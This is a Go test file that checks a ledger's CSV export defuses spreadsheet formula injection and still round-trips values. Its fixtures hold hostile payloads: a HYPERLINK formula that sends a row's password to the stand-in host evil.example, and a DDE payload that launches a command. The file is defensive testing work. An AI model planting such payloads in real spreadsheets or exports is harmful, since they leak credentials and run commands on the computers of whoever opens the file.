package tabular

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"beianledger/ledger"
)

// The review's attack: a notes cell that, opened in a spreadsheet,
// becomes a formula sending the password of the same row away.
const hyperlink = `=HYPERLINK("http://evil.example/?p="&S2,"详情")`

func formulaStore(t *testing.T) ledger.Store {
	st := newStore(t)
	err := st.Write(func(w ledger.Writer) error {
		e := &ledger.Entity{Name: "'=示例公司", Notes: "@SUM(1+1)"}
		if err := w.PutEntity(e); err != nil {
			return err
		}
		s := &ledger.Site{EntityID: e.ID, Number: "京ICP备2021012345号-1", Name: "+官网", Notes: hyperlink}
		if err := w.PutSite(s); err != nil {
			return err
		}
		c := &ledger.Credential{SiteID: s.ID, System: ledger.SystemProvider, Login: "-admin", Notes: "\t=1+1", URL: "\r=2"}
		if err := w.PutCredential(c); err != nil {
			return err
		}
		return w.SetSecret("credential", c.ID, []byte("=cmd|' /C calc'!A0"))
	})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func TestCSVExportDefusesFormulas(t *testing.T) {
	src := formulaStore(t)
	data := export(t, src, FormatCSV, true)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell written raw: %q", c)
			}
		}
	}
	if !bytes.Contains(data, []byte(`'=HYPERLINK(`)) || !bytes.Contains(data, []byte(`''=示例公司`)) {
		t.Errorf("export:\n%s", data)
	}

	// Importing our own export gives back every value exactly (the
	// importer trims space around values, so the tab and CR cells are
	// checked by the bytes above only).
	dst := newStore(t)
	mustImport(t, dst, "ledger.csv", data)
	want, got := snapshot(t, src)["京ICP备2021012345号-1"], snapshot(t, dst)["京ICP备2021012345号-1"]
	if got.Site.Name != want.Site.Name || got.Site.Notes != hyperlink || got.Entity.Name != want.Entity.Name || got.Entity.Notes != want.Entity.Notes ||
		len(got.Creds) != 1 || got.Creds[0].Login != "-admin" || got.Creds[0].Password != want.Creds[0].Password {
		t.Errorf("round trip:\n got %+v\nwant %+v", got, want)
	}
	for _, v := range []string{"=1", "''=x", "'", "'a", "-", "\t", "x=1", ""} {
		if restoreFormula(defuseFormula(v)) != v {
			t.Errorf("%q does not survive the round trip", v)
		}
	}

	// LibreOffice opens the CSV and computes nothing: converted to XLSX,
	// no cell holds a formula.
	// 44,34,76: comma-separated, double quotes, UTF-8.
	xb, ok := soffice(t, "ledger.csv", data, "ledger.xlsx", "--infilter=CSV:44,34,76", "--convert-to", "xlsx")
	if !ok {
		return
	}
	zr, err := zip.NewReader(bytes.NewReader(xb), int64(len(xb)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("LibreOffice made formulas of cells in %s:\n%s", f.Name, b)
		}
	}
	s, err := ReadFile("ledger.xlsx", xb)
	if err != nil {
		t.Fatal(err)
	}
	if v := s.Rows[0].Cells[ColNotes]; !strings.Contains(v, "HYPERLINK") {
		t.Errorf("LibreOffice shows the notes cell as %q", v)
	}
}
